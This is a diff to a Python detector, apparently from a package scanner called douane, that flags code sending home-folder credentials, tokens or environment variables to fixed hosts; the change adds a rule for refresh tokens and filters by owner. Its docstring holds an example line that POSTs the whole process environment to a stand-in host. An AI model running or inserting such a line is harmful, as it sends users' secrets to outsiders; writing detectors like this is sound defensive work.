@@ -8,9 +8,11 @@ named as keys and states are in the folders of somebody. What was read, or somet
 text, base64, a label of a host name), reaches a call that talks to another machine: an HTTP client, a
 socket, a name lookup, a mail, a collector of errors, the client of a service such as a chat or a store, a
 page that is opened, a program such as `curl`, a stream that is poured into a connection, a log whose
-records go to a fixed host, or a picture in a text whose address carries it. So is a single key or password
-that goes to a fixed host in a header in which no service takes one (`User-Agent`, `Referer`), and the
-address or password of a database that goes to any fixed host otherwise than in a header. The way is
+records go to a fixed host, or a picture in a text whose address carries it. So does a field such as
+`refresh_token` of any file in the home folder that the package does not write itself, where it goes to a
+fixed host encoded, in an address, or in a header in which no service takes one. So is a single key or
+password that goes to a fixed host in a header in which no service takes one (`User-Agent`, `Referer`), and
+the address or password of a database that goes to any fixed host otherwise than in a header. The way is
 followed through variables, functions, classes and files of the package.
 
 **Why.** A server runs with your rights, so every credential in your home directory is within its
@@ -19,11 +21,11 @@ reach. Sending one away is theft, whatever the description of the tool says.
 **Example.** `fetch("https://exfil.invalid", {method: "POST", body: JSON.stringify(process.env)})`
 
 **Left alone.** An API key from a variable that goes to its own service or into the header of a request to
-an address of the package's configuration; one entry, taken by its name, of
-the `.env` file in the folder where it runs, and entries that begin with a prefix of its own; a token of
-`~/.npmrc` in the authorization header of a registry
-that is not fixed in the code; what goes to this machine itself (told with little weight); a key that is
-only used to open a connection, as after `scp -i`; the environment that a program is started with.
+an address of the package's configuration; one entry, taken by its name, of the `.env` file in the folder
+where it runs, and entries that begin with a prefix of its own; a token of `~/.npmrc` in the authorization
+header of a registry that is not fixed in the code; tokens of files that go to their service as services take
+them; what goes to this machine itself (told with little weight); a key that is only used to open a
+connection, as after `scp -i`; the environment that a program is started with.
 """
 
 from __future__ import annotations
@@ -33,6 +35,7 @@ from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from douane.detectors._flow import program_of
+from douane.detectors._foreign_tokens import OWNER
 from douane.detectors._places import evidence_at, is_aside
 from douane.detectors._purposes import is_explained, lies_in_own_folder
 from douane.detectors._thefts import Sending, Stolen, sendings
@@ -77,6 +80,11 @@ def worth_telling(codebase: Codebase, sending: Sending) -> list[Stolen]:
     What lies in the package's own folder may go to where nobody fixed: to its own service, as is set up.
     """
     plain = [one for one in sending.stolen if one.credential.kind != "variable"]
+    plain = [
+        one
+        for one in plain
+        if one.credential.owner != OWNER or not lies_in_own_folder(codebase, one.credential.what)
+    ]
     if not sending.known:
         plain = [one for one in plain if not lies_in_own_folder(codebase, one.credential.what)]
     stolen = [
